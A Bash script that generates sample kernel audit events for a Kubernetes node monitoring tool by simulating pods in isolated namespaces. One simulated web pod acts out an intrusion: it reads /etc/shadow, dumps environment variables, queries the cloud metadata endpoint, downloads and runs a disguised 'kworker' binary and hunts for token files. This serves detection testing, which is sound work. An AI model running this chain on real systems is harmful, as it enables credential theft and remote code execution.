#!/usr/bin/env bash
# Makes a minute of real events, as JSON, for the pictures: events.sh FILE. Needs root, a machine without auditd running, and artifacts/aks-auditd (./build.sh).
# They are those of processes in control groups named as the kubelet names them, and of a login on the node, all of one group, which is what the rules ask for.
# The kernel's audit state is put back at the end.
# shellcheck disable=SC2016 # other shells expand it
set -euo pipefail
to=$(realpath "$1")
cd "$(dirname "${BASH_SOURCE[0]}")/../.."
# shellcheck source=../../test/lib/suites.sh
. test/lib/suites.sh
# shellcheck source=../../demo/lib.sh
. demo/lib.sh
install_packages auditd curl iproute2
program=$PWD/artifacts/aks-auditd group=64711 seconds=${SECONDS_OF_LOAD:-48}
exec 9>/run/lock/aks-auditd-tests
flock 9

work=$(mktemp -d /tmp/aks-auditd-events.XXXXXX)
node=$work/node groups=/sys/fs/cgroup/kubepods
[ -e /sys/fs/cgroup/cgroup.controllers ] || groups=/sys/fs/cgroup/pids/kubepods
events='' children=()
put_back() {
  set +e
  for pid in "${children[@]}"; do kill -- "-$pid" "$pid" 2>/dev/null; done
  wait "${children[@]}" 2>/dev/null
  sleep 0.3
  [ -z "$events" ] || { kill "$events"; wait "$events"; } 2>/dev/null
  audit_restore "$work/saved"
  find "$groups" -depth -mindepth 1 -type d -exec rmdir {} + 2>/dev/null
  rmdir "$groups" 2>/dev/null
  rm -rf "$work"
}

audit_save "$work/saved"
trap put_back EXIT
trap 'exit 130' INT TERM

mkdir -p "$node"/{etc,sys/fs,var/log/pods,var/log/containers}
ln -s /sys/fs/cgroup "$node/sys/fs/cgroup"
{ grep -v ':1000:' /etc/passwd; echo 'alice:x:1000:1000::/home/alice:/bin/bash'; } >"$node/etc/passwd"
cp /etc/group "$node/etc/group"

auditctl -D >/dev/null
auditctl -b 8192 -e 1 >/dev/null
for arch in b64 b32; do
  auditctl -a always,exit -F arch=$arch -S execve,execveat -F gid=$group -k procmon
  auditctl -a always,exit -F arch=$arch -S connect -F gid=$group -F a2!=110 -k network
  auditctl -a always,exit -F arch=$arch -S chmod,fchmod,fchmodat,chown,fchownat -F gid=$group -k permissions
  auditctl -a always,exit -F arch=$arch -S unlink,unlinkat,rename,renameat,renameat2 -F gid=$group -F dir=/tmp -k changes
done 2>/dev/null
auditctl -a always,exit -F path=/etc/shadow -F perm=r -F gid=$group -k identity
auditctl -a always,exit -F path=/etc/passwd -F perm=wa -F gid=$group -k identity
AA_HOST_ROOT=$node NODE_NAME=aks-nodepool1-31264785-vmss000002 "$program" events --from kernel --key '*' --output json --to file "$work/events.json" 2>"$work/events.log" 9>&- &
events=$!
sleep 1

# The world as each process of the load has it: addresses that answer on some ports, and a program of its own name.
cat >"$work/world" <<'SH'
ip link set lo up
for address in 10.0.0.1 10.0.0.10 10.0.12.5 10.224.0.9 20.50.2.11 168.63.129.16; do ip address add $address/32 dev lo; done
for port in 53 443 5432 8080 9807; do
  perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalPort => $ARGV[0], Listen => 50, ReuseAddr => 1); while ($c = $s->accept) { close $c }' $port &
done
mount -t tmpfs none /opt
chmod 755 /opt
cp /bin/bash "/opt/$1"
sleep 0.3
SH
random() { echo $((RANDOM % $1)); }
# reach ADDRESS PORT
reach() { (exec 3<>"/dev/tcp/$1/$2") 2>/dev/null || true; }
export -f random reach

# in_pod NAMESPACE POD CONTAINER USER SCRIPT
in_pod() {
  local namespace=$1 pod=$2 container=$3 user=$4 script=$5 uid id
  uid=$(cat /proc/sys/kernel/random/uuid) id=$(printf '%s' "$pod$container" | sha256sum | cut -c1-64)
  mkdir -p "$groups/burstable/pod$uid/$id" "$node/var/log/pods/${namespace}_${pod}_$uid/$container"
  ln -s "../pods/${namespace}_${pod}_$uid/$container/0.log" "$node/var/log/containers/${pod}_${namespace}_$container-$id.log"
  (
    for file in "$groups/burstable/pod$uid/$id"/{cgroup.procs,tasks}; do [ ! -e "$file" ] || echo "$BASHPID" >"$file"; done
    exec setsid unshare --net --mount bash -c 'bash "$1" "$5"; exec setpriv --reuid "$2" --regid "$3" --clear-groups "/opt/$5" -c "$4"' _ "$work/world" "$user" "$group" "$script" "$container"
  ) >/dev/null 2>&1 9>&- &
  children+=($!)
}

in_pod payments checkout-7c5ddbdf54-x2x7q checkout www-data 'while :; do reach 10.0.12.5 5432; reach 10.0.0.10 53; curl -s -m 1 http://10.0.0.1:443/v1/charges; date +%s; sleep 0.$((2 + $(random 6))); done'
in_pod payments checkout-7c5ddbdf54-q9k4m checkout www-data 'while :; do reach 10.0.12.5 5432; curl -s -m 1 http://10.0.0.1:443/v1/charges; sleep 0.$((4 + $(random 6))); done'
in_pod shop web-6b8f9c7d5-8lmzw nginx www-data 'while :; do reach 10.224.0.9 8080; sh -c "test -f /etc/hostname && cat /etc/hostname"; sleep 0.7; done'
in_pod shop web-6b8f9c7d5-8lmzw log-shipper nobody 'cd /tmp; while :; do f=$(mktemp); gzip -f "$f"; chmod 600 "$f.gz"; mv "$f.gz" "$f.done"; rm -f "$f.done"; reach 20.50.2.11 443; sleep 1; done'
in_pod kube-system coredns-789465848c-7wq5d coredns nobody 'while :; do reach 168.63.129.16 53; sleep 0.$((3 + $(random 5))); done'
in_pod monitoring prometheus-0 prometheus nobody 'while :; do for a in 10.224.0.9 10.0.0.10 10.0.0.1; do reach $a 9807; done; sleep 2; done'
in_pod batch nightly-report-29384920-tk2bd job nobody 'sleep 14; for i in $(seq 60); do seq 400 | sort -rn | uniq | head -n 3; awk "BEGIN { print $i }"; sleep 0.1; done'
# What a report is for: a shell in a pod that serves web pages.
in_pod shop web-6b8f9c7d5-k2v9p nginx root 'sleep 25; sh -c "id; uname -a; cat /etc/shadow; env; ps ax; curl -s -m 1 http://169.254.169.254/metadata/instance; curl -s -m 1 http://10.0.0.1:443/api; curl -s -m 1 -o /tmp/kworker http://20.50.2.11:8443/kworker; chmod 755 /tmp/kworker; /tmp/kworker -B; find / -maxdepth 2 -name token"; sleep 60'
# Somebody logs in on the node.
(
  echo 1000 >/proc/self/loginuid
  exec setsid unshare --net --mount bash -c 'bash "$1" shell; sleep 6; exec setpriv --reuid 1000 --regid "$2" --clear-groups bash -c "$3"' _ "$work/world" "$group" \
    'for i in 1 2 3 4; do uptime; ls -la /var/log; df -h; tail -n 1 /etc/services; journalctl -n 1; cat /etc/shadow; sleep 4; done; exec bash -c "grep -c . /etc/services; sleep 60"'
) >/dev/null 2>&1 9>&- &
children+=($!)

sleep "$seconds"
kill "$events"; wait "$events" || true
events=''
[ -s "$work/events.json" ] || { cat "$work/events.log"; exit 3; }
cp "$work/events.json" "$to"
